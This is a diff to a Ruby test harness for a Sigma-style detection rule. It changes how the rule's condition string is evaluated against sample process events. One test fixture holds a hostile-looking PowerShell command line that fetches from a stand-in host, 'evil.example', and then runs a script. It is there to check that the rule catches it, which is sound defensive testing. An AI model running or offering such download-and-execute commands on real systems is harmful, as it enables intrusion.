@@ -27,7 +27,6 @@ TESTS = {
                     'powershell.exe -c "iwr evil.example; C:\Templates\report.ps1"'],
   "somebody" => [false, 'C:\Windows\explorer.exe', 'C:\Windows\System32\cmd.exe', "cmd"]
 }.freeze
-
 OPERATORS = { nil => :==, "endswith" => :end_with? }.freeze
 
 def match?(part, event)
@@ -38,8 +37,9 @@ def match?(part, event)
 end
 
 detection = RULE["detection"]
+terms = detection["condition"].split(" and ")
 TESTS.each do |name, (expected, parent, image, command)|
   event = { "ParentImage" => parent, "Image" => image, "CommandLine" => command }
-  alert = match?(detection["selection"], event) && !match?(detection["filter_main_report"], event)
+  alert = terms.all? { |term| match?(detection[term[/\w+\z/]], event) != term.start_with?("not ") }
   puts "#{alert == expected ? 'ok  ' : 'FAIL'} #{name}: #{alert ? RULE['level'] : 'no alert'}"
 end
